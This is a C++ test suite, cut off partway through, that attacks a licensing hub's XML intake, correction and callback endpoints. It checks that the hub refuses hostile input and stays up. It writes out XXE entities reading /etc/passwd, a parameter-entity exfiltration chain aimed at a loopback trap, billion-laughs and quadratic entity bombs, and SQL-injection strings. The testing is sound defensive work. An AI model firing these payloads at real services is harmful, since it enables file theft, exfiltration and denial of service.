// Hostile input against the real `hub` binary over loopback HTTP: every attack
// on package intake, the correction supplement and a department callback is
// refused with its precise status and code, or stored verbatim and harmless;
// after each one the same process still answers /healthz and its peak
// resident memory stays under kMaxResidentKb. docs/hostile-input.md lists the
// attacks and what the hub answers.
//   hostile_input_tests -- sqlite
//   hostile_input_tests -- mysql <mariadb env file>
#define BOOST_TEST_MODULE hostile_input
#define BOOST_TEST_DYN_LINK
#include <boost/test/unit_test.hpp>

#include <csignal>
#include <chrono>
#include <fstream>
#include <iostream>
#include <sstream>

#include <Poco/Base64Encoder.h>
#include <Poco/DateTimeFormat.h>
#include <Poco/DateTimeFormatter.h>
#include <Poco/DirectoryIterator.h>
#include <Poco/File.h>
#include <Poco/JSON/Array.h>
#include <Poco/JSON/Object.h>
#include <Poco/JSON/Parser.h>
#include <Poco/Net/ServerSocket.h>
#include <Poco/Net/StreamSocket.h>
#include <Poco/Process.h>
#include <Poco/SHA2Engine.h>
#include <Poco/String.h>
#include <Poco/Timestamp.h>

#include "hub_process.h"
#include "transport/message_signature.h"

using hub::testing::HttpResponse;
using hub::testing::HubProcess;
using hub::testing::readFile;
using hub::testing::sourceDirectory;

namespace {

// The package limit of the hub under test: large enough for a 10 MB attribute
// and an attachment past libxml2's 10,000,000-byte text limit to reach the
// parser, small enough to keep the run short.
constexpr std::size_t kMaxPackageBytes = 16 * 1024 * 1024;
constexpr int kMaxXmlDepth = 64;
// The hub keeps at most a couple of bodies of kMaxPackageBytes in memory at
// once (the bytes read, the parsed tree, the copy handed to the store), each
// a small multiple of 16 MiB, on top of a baseline of about 30 MB: 300 MB
// leaves room for allocator slack while catching any expansion attack (one
// billion laughs alone would need gigabytes).
#if defined(__SANITIZE_ADDRESS__)
// The sanitizer build (hub and test alike): AddressSanitizer's shadow memory
// and its 256 MB quarantine of freed blocks come on top.
constexpr long kMaxResidentKb = 900 * 1024;
#else
constexpr long kMaxResidentKb = 300 * 1024;
#endif
// No single attack may take longer than this (a hang shows up here rather
// than as the 30 s client timeout). The slowest legitimate case, a 10 MB
// attachment, takes about 3 s in a debug build.
constexpr auto kMaxAttackDuration = std::chrono::seconds(20);

const std::string kSqlText = "'; DROP TABLE packages; --";
const std::string kCcsSecret = "dev-secret-ccs";

hub::testing::StoreChoice storeFromArguments() {
    auto& suite = boost::unit_test::framework::master_test_suite();
    return hub::testing::storeChoiceFromArguments(suite.argc, suite.argv);
}

struct Memory {
    long residentKb = 0;      // VmRSS
    long peakResidentKb = 0;  // VmHWM: the kernel's high-water mark since start
};

Memory memoryOf(int pid) {
    std::ifstream status("/proc/" + std::to_string(pid) + "/status");
    Memory memory;
    std::string line;
    while (std::getline(status, line)) {
        if (line.rfind("VmRSS:", 0) == 0) memory.residentKb = std::stol(line.substr(6));
        if (line.rfind("VmHWM:", 0) == 0) memory.peakResidentKb = std::stol(line.substr(6));
    }
    return memory;
}

// One hub for the whole run; every test uses its own idempotency keys.
struct HubFixture {
    HubFixture()
        : hub(storeFromArguments(), R"("maxPackageBytes": )" + std::to_string(kMaxPackageBytes) +
                                        R"(, "maxXmlDepth": )" + std::to_string(kMaxXmlDepth)) {
        std::signal(SIGPIPE, SIG_IGN);  // a hub closing on an oversize body must not kill the test
        hub.start();
        pid = hub.pid();
        token = hub.issueToken("hostile-co");
        std::string out;
        if (hub.runCommand({"token", "issue", "--role", "admin", "--label", "hostile-admin"}, out) != 0)
            throw std::runtime_error("cannot issue an admin token");
        adminToken = Poco::trim(out);
        instance = this;
    }
    ~HubFixture() {
        const Memory last = memoryOf(pid);
        std::cout << "hostile_input: peak VmRSS sampled " << peakSampledKb << " kB, VmHWM " << last.peakResidentKb
                  << " kB (bound " << kMaxResidentKb << " kB)" << std::endl;
        instance = nullptr;
    }
    HubProcess hub;
    int pid = 0;
    std::string token;
    std::string adminToken;
    long peakSampledKb = 0;
    std::string basePackage;  // a stored package whose P12 is QUEUED
    static HubFixture* instance;
};
HubFixture* HubFixture::instance = nullptr;

HubFixture& rig() { return *HubFixture::instance; }
HubProcess& hubUnderTest() { return rig().hub; }

std::string describe(const HttpResponse& response) {
    return "status " + std::to_string(response.status) + " body " + response.body.substr(0, 1500);
}

Poco::JSON::Object::Ptr json(const std::string& text) {
    return Poco::JSON::Parser().parse(text).extract<Poco::JSON::Object::Ptr>();
}

std::string firstErrorCode(const HttpResponse& response) {
    try {
        auto errors = json(response.body)->getArray("errors");
        return errors && errors->size() > 0 ? errors->getObject(0)->getValue<std::string>("code") : std::string();
    } catch (const Poco::Exception&) {
        return "(not a problem document)";
    }
}

// Every error of a problem document has `code`.
bool allErrorsAre(const HttpResponse& response, const std::string& code) {
    try {
        auto errors = json(response.body)->getArray("errors");
        if (!errors || errors->size() == 0) return false;
        for (std::size_t i = 0; i < errors->size(); ++i)
            if (errors->getObject(i)->getValue<std::string>("code") != code) return false;
        return true;
    } catch (const Poco::Exception&) {
        return false;
    }
}

std::string hexOf(const std::string& bytes) {
    static const char* digits = "0123456789ABCDEF";
    std::string out(bytes.size() * 2, '0');
    char* to = out.data();
    for (unsigned char c : bytes) {
        *to++ = digits[c >> 4];
        *to++ = digits[c & 15];
    }
    return out;
}

std::string sha256Hex(const std::string& bytes) {
    Poco::SHA2Engine engine(Poco::SHA2Engine::SHA_256);
    engine.update(bytes);
    return Poco::DigestEngine::digestToHex(engine.digest());
}

std::string base64Of(const std::string& bytes) {
    std::ostringstream out;
    Poco::Base64Encoder encoder(out);
    encoder.rdbuf()->setLineLength(0);
    encoder << bytes;
    encoder.close();
    return out.str();
}

std::string repeated(const std::string& piece, std::size_t times) {
    std::string out;
    out.reserve(piece.size() * times);
    for (std::size_t i = 0; i < times; ++i) out += piece;
    return out;
}

std::string replacedOnce(std::string text, const std::string& from, const std::string& to) {
    const auto at = text.find(from);
    if (at == std::string::npos) throw std::runtime_error("sample lacks " + from);
    return text.replace(at, from.size(), to);
}

int keyCounter = 0;
std::string freshKey() { return "hostile-" + std::to_string(++keyCounter) + "-" + std::to_string(::getpid()); }

// The sample package and the places the attacks edit.
std::string fullPackage() { return readFile(sourceDirectory() + "/examples/full-12-permits.xml"); }
const std::string kDeclaration = R"(<?xml version="1.0" encoding="UTF-8"?>)";
const std::string kProposedName = "<ProposedName>青岛海联航运有限公司</ProposedName>";
const std::string kFirstFileName = "<FileName>articles-of-association.pdf</FileName>";
const std::string kRoot = R"(<ApplicationPackage xmlns="urn:licensing-hub:package:v1">)";

std::string packageWithName(const std::string& nameMarkup) {
    return replacedOnce(fullPackage(), kProposedName, "<ProposedName>" + nameMarkup + "</ProposedName>");
}

std::string packageWithDoctype(const std::string& doctype) {
    return replacedOnce(fullPackage(), kDeclaration + "\n", kDeclaration + "\n" + doctype + "\n");
}

std::map<std::string, std::string> applicantHeaders(const std::string& key = freshKey()) {
    return {{"Authorization", "Bearer " + rig().token}, {"Content-Type", "application/xml"}, {"Idempotency-Key", key}};
}

HttpResponse submit(const std::string& body, const std::string& key = freshKey()) {
    return hubUnderTest().request("POST", "/api/v1/applications", applicantHeaders(key), body);
}

HttpResponse getAs(const std::string& token, const std::string& path,
                   std::map<std::string, std::string> headers = {}) {
    headers.emplace("Authorization", "Bearer " + token);
    return hubUnderTest().request("GET", path, headers);
}

std::string sqlValue(const std::string& statement) { return Poco::trim(hubUnderTest().sql(statement)); }

long storedPackages() { return std::stol(sqlValue("SELECT COUNT(*) FROM packages")); }

// The package refused with `status` and `code` as every error, nothing stored.
void expectPackageRefused(const std::string& body, int status, const std::string& code) {
    const long before = storedPackages();
    auto response = submit(body);
    BOOST_TEST(response.status == status, describe(response));
    BOOST_TEST(allErrorsAre(response, code), "expected every error to be " << code << ": " << describe(response));
    BOOST_TEST(storedPackages() == before, "a refused package was stored");
}

// Accepted: 201, and the stored bytes are exactly those sent.
std::string expectPackageStoredVerbatim(const std::string& body) {
    auto response = submit(body);
    BOOST_TEST_REQUIRE(response.status == 201, describe(response));
    const std::string id = json(response.body)->getValue<std::string>("id");
    BOOST_TEST(sqlValue("SELECT HEX(original_xml) FROM packages WHERE id = '" + id + "'") == hexOf(body),
               "the stored package differs from the bytes sent");
    BOOST_TEST(json(response.body)->getValue<std::string>("sha256") == sha256Hex(body));
    return id;
}

std::string basePackageId() {
    if (rig().basePackage.empty()) {
        auto response = submit(fullPackage());
        BOOST_TEST_REQUIRE(response.status == 201, describe(response));
        rig().basePackage = json(response.body)->getValue<std::string>("id");
    }
    return rig().basePackage;
}

// A correction supplement for P12 of a stored package.
std::string supplement(const std::string& answerMarkup = "The plans are attached.",
                       const std::string& fileName = "plans.pdf") {
    return kDeclaration + "\n" +
           "<CorrectionSupplement xmlns=\"urn:licensing-hub:package:v1\">\n"
           "  <Permit>P12</Permit>\n"
           "  <Answer item=\"1\">" + answerMarkup + "</Answer>\n"
           "  <Attachment fileName=\"" + fileName + "\" mediaType=\"application/pdf\">JVBERi0xLjcK</Attachment>\n"
           "</CorrectionSupplement>\n";
}

HttpResponse postSupplement(const std::string& body, const std::string& packageId = basePackageId()) {
    return hubUnderTest().request("POST", "/api/v1/applications/" + packageId + "/permits/P12/corrections",
                                  {{"Authorization", "Bearer " + rig().token}, {"Content-Type", "application/xml"}},
                                  body);
}

void expectSupplementRefused(const std::string& body, int status, const std::string& code) {
    auto response = postSupplement(body);
    BOOST_TEST(response.status == status, describe(response));
    BOOST_TEST(allErrorsAre(response, code), "expected every error to be " << code << ": " << describe(response));
}

long nowMs() {
    return std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::system_clock::now().time_since_epoch())
        .count();
}

int messageCounter = 0;
std::string freshMessageId() { return "CCS-HOSTILE-" + std::to_string(nowMs()) + "-" + std::to_string(++messageCounter); }

// A CCS survey status message; `extra` goes after StatusTime (Reason, Deficiency).
std::string ccsMessage(const std::string& receipt, const std::string& status = "ACCEPTED",
                       const std::string& extra = {}, const std::string& messageId = freshMessageId()) {
    return kDeclaration + "\n" +
           "<SurveyResult xmlns=\"urn:licensing-hub:dept:ccs:v1\">\n"
           "  <MessageId>" + messageId + "</MessageId>\n"
           "  <ReceiptNumber>" + receipt + "</ReceiptNumber>\n"
           "  <Status>" + status + "</Status>\n"
           "  <StatusTime>" + Poco::DateTimeFormatter::format(Poco::Timestamp(), Poco::DateTimeFormat::ISO8601_FORMAT) +
           "</StatusTime>\n" + extra +
           "</SurveyResult>\n";
}

std::map<std::string, std::string> signedHeaders(const std::string& body) {
    const long timestamp = nowMs();
    return {{"Content-Type", "application/xml"},
            {std::string(hub::transport::kTimestampHeader), std::to_string(timestamp)},
            {std::string(hub::transport::kSignatureHeader),
             hub::transport::signatureHeaderValue(kCcsSecret, timestamp, body)}};
}

HttpResponse postCallback(const std::string& body) {
    return hubUnderTest().request("POST", "/api/v1/departments/CCS/callbacks", signedHeaders(body), body);
}

std::string lastRefusedCallbackCode() {
    auto response = getAs(rig().adminToken, "/admin/api/callbacks/refused?limit=1");
    BOOST_TEST_REQUIRE(response.status == 200, describe(response));
    auto refused = json(response.body)->getArray("refused");
    BOOST_TEST_REQUIRE(refused->size() == 1u);
    return refused->getObject(0)->getValue<std::string>("code");
}

// Refused as MALFORMED (400) with `parserCode` as every error, and recorded.
void expectCallbackMalformed(const std::string& body, const std::string& parserCode) {
    auto response = postCallback(body);
    BOOST_TEST(response.status == 400, describe(response));
    BOOST_TEST(allErrorsAre(response, parserCode),
               "expected every error to be " << parserCode << ": " << describe(response));
    BOOST_TEST(lastRefusedCallbackCode() == "MALFORMED");
}

// A loopback listener that must never be connected to: where an external
// entity, DTD, stylesheet or schema would be fetched from.
class ConnectionTrap {
  public:
    ConnectionTrap() : socket_(Poco::Net::SocketAddress("127.0.0.1", 0)) {}
    std::string url(const std::string& path) const {
        return "http://127.0.0.1:" + std::to_string(socket_.address().port()) + path;
    }
    // A fetch would happen while the hub handles the request, before it
    // answers; the short wait covers a connection still being set up.
    bool connected() { return socket_.poll(Poco::Timespan(0, 200000), Poco::Net::Socket::SELECT_READ); }

  private:
    Poco::Net::ServerSocket socket_;
};

// How postWatching frames a body.
enum class Framing {
    Exact,         // Content-Length: the body's size
    DeclaredHuge,  // Content-Length: 1 GiB, then the body and filler without end
    Endless,       // chunked: the body, then filler without end
};

// Posts `body` in pieces on a raw connection, watching for the answer between
// pieces, and returns it (status 0 when none came). A hub refusing a body from
// its size answers and closes before reading it all; a client writing the
// whole body before reading (as HubProcess::request does) could then see a
// reset instead of the answer. At most `cap` bytes are sent.
HttpResponse postWatching(const std::string& path, const std::map<std::string, std::string>& headers,
                          const std::string& body, Framing framing, std::size_t cap = 64 * 1024 * 1024) {
    Poco::Net::StreamSocket socket(
        Poco::Net::SocketAddress("127.0.0.1", static_cast<Poco::UInt16>(hubUnderTest().port())));
    socket.setSendTimeout(Poco::Timespan(20, 0));
    socket.setReceiveTimeout(Poco::Timespan(20, 0));
    auto sendAll = [&](const std::string& bytes) {
        std::size_t done = 0;
        while (done < bytes.size()) {
            const int n = socket.sendBytes(bytes.data() + done, static_cast<int>(bytes.size() - done));
            if (n <= 0) throw std::runtime_error("send failed");
            done += static_cast<std::size_t>(n);
        }
    };
    const bool chunked = framing == Framing::Endless;
    std::string head = "POST " + path + " HTTP/1.1\r\nHost: 127.0.0.1\r\n";
    for (const auto& [name, value] : headers) head += name + ": " + value + "\r\n";
    head += chunked ? std::string("Transfer-Encoding: chunked\r\n")
                    : "Content-Length: " +
                          std::to_string(framing == Framing::Exact ? body.size() : std::size_t{1} << 30) + "\r\n";
    head += "\r\n";
    auto framed = [&](const std::string& data) {
        if (!chunked) return data;
        std::ostringstream size;
        size << std::hex << data.size();
        return size.str() + "\r\n" + data + "\r\n";
    };
    constexpr std::size_t kPiece = 64 * 1024;
    const std::string filler(kPiece, ' ');
    std::size_t sent = 0;
    auto answered = [&] { return socket.poll(Poco::Timespan(0), Poco::Net::Socket::SELECT_READ); };
    try {
        sendAll(head);
        for (std::size_t at = 0; at < body.size() && !answered(); at += kPiece) {
            sendAll(framed(body.substr(at, kPiece)));
            sent += std::min(kPiece, body.size() - at);
        }
        while (framing != Framing::Exact && sent < cap && !answered()) {
            sendAll(framed(filler));
            sent += filler.size();
        }
    } catch (const std::exception&) {
        // The hub stopped reading and closed: its answer is already on its way.
    }
    BOOST_TEST(sent < cap, "the hub read " << sent << " bytes of an endless body without answering");
    std::string raw;
    char buffer[16384];
    try {
        for (;;) {
            const int n = socket.receiveBytes(buffer, sizeof buffer);
            if (n <= 0) break;
            raw.append(buffer, static_cast<std::size_t>(n));
            const auto end = raw.find("\r\n\r\n");
            if (end == std::string::npos) continue;
            const auto lengthAt = Poco::toLower(raw.substr(0, end)).find("content-length:");
            if (lengthAt != std::string::npos &&
                raw.size() >= end + 4 + std::stoul(raw.substr(lengthAt + 15, raw.find("\r\n", lengthAt) - lengthAt - 15)))
                break;
        }
    } catch (const std::exception&) {
    }
    HttpResponse response;
    const auto end = raw.find("\r\n\r\n");
    if (raw.rfind("HTTP/1.", 0) != 0 || end == std::string::npos) return response;
    response.status = std::stoi(raw.substr(9, 3));
    response.body = raw.substr(end + 4);
    return response;
}

// What every attack must leave: the same process, answering, within its
// memory bound, having answered in bounded time.
struct Survives {
    std::chrono::steady_clock::time_point started = std::chrono::steady_clock::now();

    void teardown() {
        const auto took = std::chrono::steady_clock::now() - started;
        BOOST_TEST(took < kMaxAttackDuration,
                   "the attack took " << std::chrono::duration_cast<std::chrono::milliseconds>(took).count() << " ms");
        BOOST_TEST_REQUIRE(hubUnderTest().pid() == rig().pid, "the hub was restarted");
        BOOST_TEST_REQUIRE(Poco::Process::isRunning(rig().pid), "the hub died:\n" << hubUnderTest().logTail());
        auto health = hubUnderTest().request("GET", "/healthz");
        BOOST_TEST(health.status == 200, "after the attack: " << describe(health));
        const Memory memory = memoryOf(rig().pid);
        rig().peakSampledKb = std::max(rig().peakSampledKb, memory.residentKb);
        BOOST_TEST(memory.peakResidentKb < kMaxResidentKb,
                   "the hub's resident memory peaked at " << memory.peakResidentKb << " kB");
        BOOST_TEST_MESSAGE("VmRSS " << memory.residentKb << " kB, VmHWM " << memory.peakResidentKb << " kB");
    }
};

std::string passwdFirstLine() {
    std::ifstream in("/etc/passwd");
    std::string line;
    std::getline(in, line);
    return line;
}

void expectNoFileContent(const HttpResponse& response) {
    const std::string line = passwdFirstLine();
    BOOST_TEST_REQUIRE(!line.empty());
    BOOST_TEST(response.body.find(line) == std::string::npos, "the answer leaks /etc/passwd");
    BOOST_TEST(response.body.find("root:") == std::string::npos, "the answer leaks /etc/passwd");
}

const std::string kBillionLaughs = R"(<!DOCTYPE ApplicationPackage [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>)";

// One 100 kB entity referenced 50,000 times: 5 GB once expanded, from a
// 500 kB document.
std::string quadraticBlowupDoctype() {
    return "<!DOCTYPE ApplicationPackage [<!ENTITY big \"" + std::string(100 * 1024, 'x') + "\">]>";
}
std::string quadraticReferences() { return repeated("&big;", 50000); }

// `depth` elements nested inside the root, closed or not.
std::string nested(const std::string& rootOpen, const std::string& rootClose, std::size_t depth, bool closed = true) {
    return kDeclaration + "\n" + rootOpen + repeated("<a>", depth) + (closed ? repeated("</a>", depth) : "") +
           rootClose;
}

// An element with `count` distinct attributes (or namespace declarations).
std::string manyAttributes(std::size_t count, const std::string& prefix) {
    std::string out;
    out.reserve(count * 16);
    for (std::size_t i = 0; i < count; ++i) out += " " + prefix + std::to_string(i) + "=\"v\"";
    return out;
}

std::string deterministicBytes(std::size_t size) {
    std::string bytes(size, '\0');
    std::uint32_t state = 2463534242u;
    for (auto& b : bytes) {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        b = static_cast<char>(state & 0xFF);
    }
    return bytes;
}

// The sample with its first attachment replaced by `content` (digest fixed).
std::string packageWithAttachment(const std::string& content) {
    std::string xml = fullPackage();
    const auto at = xml.find("<Attachment>");
    const auto shaAt = xml.find("<Sha256>", at);
    const auto shaEnd = xml.find("</Sha256>", shaAt);
    xml.replace(shaAt + 8, shaEnd - shaAt - 8, sha256Hex(content));
    const auto contentAt = xml.find("<Content>", at);
    const auto contentEnd = xml.find("</Content>", contentAt);
    xml.replace(contentAt + 9, contentEnd - contentAt - 9, base64Of(content));
    return xml;
}

// No file under the hub's work directory carries `name` (it is never used as a path).
bool fileNamedAnywhere(const std::string& directory, const std::string& name) {
    for (Poco::DirectoryIterator it(directory), end; it != end; ++it) {
        if (it.name() == name) return true;
        if (it->isDirectory() && !it->isLink() && fileNamedAnywhere(it->path(), name)) return true;
    }
    return false;
}

}  // namespace

BOOST_TEST_GLOBAL_FIXTURE(HubFixture);

// The trap's check can fail: a connection made to it is seen.
BOOST_AUTO_TEST_CASE(a_connection_trap_sees_a_connection) {
    ConnectionTrap trap;
    BOOST_TEST(!trap.connected());
    Poco::Net::StreamSocket client(Poco::Net::SocketAddress(trap.url("").substr(7)));
    BOOST_TEST(trap.connected());
}

BOOST_FIXTURE_TEST_SUITE(package_intake, Survives)

BOOST_AUTO_TEST_CASE(package_xxe_local_file_is_refused_unread) {
    const long before = storedPackages();
    auto response = submit(packageWithDoctype(R"(<!DOCTYPE ApplicationPackage [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>)"));
    BOOST_TEST(response.status == 400, describe(response));
    BOOST_TEST(firstErrorCode(response) == "XML_DTD_FORBIDDEN", describe(response));
    expectNoFileContent(response);
    // The entity used in a field the answer would echo.
    auto used = submit(replacedOnce(
        packageWithDoctype(R"(<!DOCTYPE ApplicationPackage [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>)"),
        kProposedName, "<ProposedName>&xxe;</ProposedName>"));
    BOOST_TEST(used.status == 400, describe(used));
    BOOST_TEST(firstErrorCode(used) == "XML_DTD_FORBIDDEN", describe(used));
    expectNoFileContent(used);
    BOOST_TEST(storedPackages() == before);
}

BOOST_AUTO_TEST_CASE(package_xxe_network_entity_makes_no_connection) {
    ConnectionTrap trap;
    auto body = replacedOnce(packageWithDoctype("<!DOCTYPE ApplicationPackage [<!ENTITY xxe SYSTEM \"" +
                                                trap.url("/xxe") + "\">]>"),
                             kProposedName, "<ProposedName>&xxe;</ProposedName>");
    expectPackageRefused(body, 400, "XML_DTD_FORBIDDEN");
    BOOST_TEST(!trap.connected(), "the hub fetched the external entity");
}

BOOST_AUTO_TEST_CASE(package_external_dtd_is_never_fetched) {
    ConnectionTrap trap;
    expectPackageRefused(packageWithDoctype("<!DOCTYPE ApplicationPackage SYSTEM \"" + trap.url("/evil.dtd") + "\">"),
                         400, "XML_DTD_FORBIDDEN");
    expectPackageRefused(packageWithDoctype("<!DOCTYPE ApplicationPackage PUBLIC \"-//EVIL//DTD//EN\" \"" +
                                            trap.url("/public.dtd") + "\">"),
                         400, "XML_DTD_FORBIDDEN");
    BOOST_TEST(!trap.connected(), "the hub fetched the external DTD");
}

BOOST_AUTO_TEST_CASE(package_parameter_entities_are_refused_unexpanded) {
    ConnectionTrap trap;
    expectPackageRefused(packageWithDoctype("<!DOCTYPE ApplicationPackage [\n"
                                            "  <!ENTITY % file SYSTEM \"file:///etc/passwd\">\n"
                                            "  <!ENTITY % remote SYSTEM \"" + trap.url("/exfil.dtd") + "\">\n"
                                            "  %remote;\n"
                                            "  <!ENTITY % wrapper \"<!ENTITY &#x25; send SYSTEM '" +
                                            trap.url("/?d=%file;") + "'>\">\n"
                                            "  %wrapper;\n"
                                            "]>"),
                         400, "XML_DTD_FORBIDDEN");
    BOOST_TEST(!trap.connected(), "the hub fetched a parameter entity");
}

BOOST_AUTO_TEST_CASE(package_billion_laughs_is_refused_unexpanded) {
    expectPackageRefused(replacedOnce(packageWithDoctype(kBillionLaughs), kProposedName,
                                      "<ProposedName>&lol9;</ProposedName>"),
                         400, "XML_DTD_FORBIDDEN");
}

BOOST_AUTO_TEST_CASE(package_quadratic_blowup_is_refused_unexpanded) {
    expectPackageRefused(replacedOnce(packageWithDoctype(quadraticBlowupDoctype()), kProposedName,
                                      "<ProposedName>" + quadraticReferences() + "</ProposedName>"),
                         400, "XML_DTD_FORBIDDEN");
}

BOOST_AUTO_TEST_CASE(package_undeclared_entity_without_doctype_is_malformed) {
    expectPackageRefused(packageWithName("&xxe;"), 400, "XML_MALFORMED");
}

BOOST_AUTO_TEST_CASE(package_doctype_of_any_kind_is_refused) {
    expectPackageRefused(packageWithDoctype("<!DOCTYPE ApplicationPackage>"), 400, "XML_DTD_FORBIDDEN");
    expectPackageRefused(packageWithDoctype("<!DOCTYPE ApplicationPackage []>"), 400, "XML_DTD_FORBIDDEN");
}

BOOST_AUTO_TEST_CASE(package_xinclude_and_schema_location_fetch_nothing) {
    ConnectionTrap trap;
    // XInclude is not processed: the element is just not in the schema.
    expectPackageRefused(replacedOnce(fullPackage(), kProposedName,
                                      kProposedName + "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" +
                                          trap.url("/include.xml") + "\" parse=\"text\"/>"),
                         422, "SCHEMA_VIOLATION");
    expectPackageRefused(replacedOnce(fullPackage(), kProposedName,
                                      kProposedName + "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" "
                                                      "href=\"file:///etc/passwd\" parse=\"text\"/>"),
                         422, "SCHEMA_VIOLATION");
    // The hub validates against its own schema, never one the document names.
    expectPackageStoredVerbatim(replacedOnce(
        fullPackage(), kRoot,
        R"(<ApplicationPackage xmlns="urn:licensing-hub:package:v1" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:licensing-hub:package:v1 )" +
            trap.url("/evil.xsd") + "\">"));
    BOOST_TEST(!trap.connected(), "the hub fetched an XInclude or a schema named by the document");
}

BOOST_AUTO_TEST_CASE(package_deep_nesting_is_refused) {
    const std::string close = "</ApplicationPackage>";
    expectPackageRefused(nested(kRoot, close, 100000), 400, "XML_TOO_DEEP");
    expectPackageRefused(nested(kRoot, close, 100000, false), 400, "XML_TOO_DEEP");
    expectPackageRefused(nested(kRoot, close, kMaxXmlDepth), 400, "XML_TOO_DEEP");
    // At the limit the parser lets it through; the schema refuses the element.
    expectPackageRefused(nested(kRoot, close, kMaxXmlDepth - 1), 422, "SCHEMA_VIOLATION");
}

BOOST_AUTO_TEST_CASE(package_oversize_body_is_413) {
    std::string big = fullPackage();
    big.insert(big.rfind("</ApplicationPackage>"), std::string(kMaxPackageBytes, ' '));
    const long before = storedPackages();
    auto response = postWatching("/api/v1/applications", applicantHeaders(), big, Framing::Exact);
    BOOST_TEST(response.status == 413, describe(response));
    BOOST_TEST(allErrorsAre(response, "PACKAGE_TOO_LARGE"), describe(response));
    BOOST_TEST(storedPackages() == before);
}

BOOST_AUTO_TEST_CASE(package_declared_oversize_body_is_413_without_reading_it) {
    const long before = storedPackages();
    auto response = postWatching("/api/v1/applications", applicantHeaders(), kDeclaration + kRoot, Framing::DeclaredHuge);
    BOOST_TEST(response.status == 413, describe(response));
    BOOST_TEST(firstErrorCode(response) == "PACKAGE_TOO_LARGE", describe(response));
    BOOST_TEST(storedPackages() == before);
}

BOOST_AUTO_TEST_CASE(package_endless_chunked_body_is_413) {
    const long before = storedPackages();
    auto response = postWatching("/api/v1/applications", applicantHeaders(), kDeclaration + kRoot, Framing::Endless);
    BOOST_TEST(response.status == 413, describe(response));
    BOOST_TEST(firstErrorCode(response) == "PACKAGE_TOO_LARGE", describe(response));
    BOOST_TEST(storedPackages() == before);
}

BOOST_AUTO_TEST_CASE(package_invalid_utf8_is_refused) {
    expectPackageRefused(packageWithName("Bad \xC3\x28 byte"), 400, "XML_ENCODING");
    expectPackageRefused(packageWithName("Lone \xFF byte"), 400, "XML_ENCODING");
    expectPackageRefused(packageWithName("Overlong \xC0\xAF slash"), 400, "XML_ENCODING");
    expectPackageRefused(packageWithName("Surrogate \xED\xA0\x80 half"), 400, "XML_ENCODING");
    expectPackageRefused(packageWithName("Truncated \xE9\x9D"), 400, "XML_ENCODING");
}

BOOST_AUTO_TEST_CASE(package_lying_encoding_declaration_is_refused) {
    const std::string body = fullPackage();
    expectPackageRefused(replacedOnce(body, kDeclaration, R"(<?xml version="1.0" encoding="UTF-16"?>)"), 400,
                         "XML_ENCODING");
    expectPackageRefused(replacedOnce(packageWithName("Caf\xE9 \xFF"), kDeclaration,
                                      R"(<?xml version="1.0" encoding="ISO-8859-1"?>)"),
                         400, "XML_ENCODING");
    expectPackageRefused(replacedOnce(body, kDeclaration, R"(<?xml version='1.0' encoding = 'us-ascii' ?>)"), 400,
                         "XML_ENCODING");
}

BOOST_AUTO_TEST_CASE(package_duplicated_elements_are_refused) {
    const std::string body = fullPackage();
    const auto companyAt = body.find("<Company>");
    const auto companyEnd = body.find("</Company>") + std::string("</Company>").size();
    const std::string company = body.substr(companyAt, companyEnd - companyAt);
    expectPackageRefused(std::string(body).insert(companyEnd, "\n  " + company), 422, "SCHEMA_VIOLATION");
    expectPackageRefused(replacedOnce(body, kProposedName, kProposedName + kProposedName), 422, "SCHEMA_VIOLATION");
    expectPackageRefused(replacedOnce(body, "<Permit>P02</Permit>", "<Permit>P01</Permit>"), 422,
                         "PERMIT_DUPLICATE");
    const auto attachmentAt = body.find("<Attachment>");
    const auto attachmentEnd = body.find("</Attachment>") + std::string("</Attachment>").size();
    expectPackageRefused(std::string(body).insert(attachmentEnd,
                                                  body.substr(attachmentAt, attachmentEnd - attachmentAt)),
                         422, "ATTACHMENT_DUPLICATE_ID");
    expectPackageRefused(replacedOnce(body, R"(<RegisteredCapital currency="CNY">)",
                                      R"(<RegisteredCapital currency="CNY" currency="USD">)"),
                         400, "XML_MALFORMED");
    expectPackageRefused(body + kRoot + "</ApplicationPackage>", 400, "XML_MALFORMED");
}

BOOST_AUTO_TEST_CASE(package_sql_looking_text_is_stored_verbatim_and_harmless) {
    const std::string sqlName = kSqlText;
    const std::string scope = "Robert'); DELETE FROM permits WHERE ('1'='1";
    std::string body = packageWithName(sqlName);
    body = replacedOnce(body, "<ApplicantReference>HL-2026-0001</ApplicantReference>",
                        "<ApplicantReference>x' OR '1'='1</ApplicantReference>");
    const auto scopeAt = body.find("<BusinessScope>") + std::string("<BusinessScope>").size();
    body.replace(scopeAt, body.find("</BusinessScope>") - scopeAt, scope);
    const std::string key = "';DROP/**/TABLE/**/idempotency_keys;--";
    auto response = submit(body, key);
    BOOST_TEST_REQUIRE(response.status == 201, describe(response));
    const std::string id = json(response.body)->getValue<std::string>("id");

    auto fetched = getAs(rig().token, "/api/v1/applications/" + id);
    BOOST_TEST_REQUIRE(fetched.status == 200, describe(fetched));
    BOOST_TEST(json(fetched.body)->getValue<std::string>("proposedName") == sqlName);
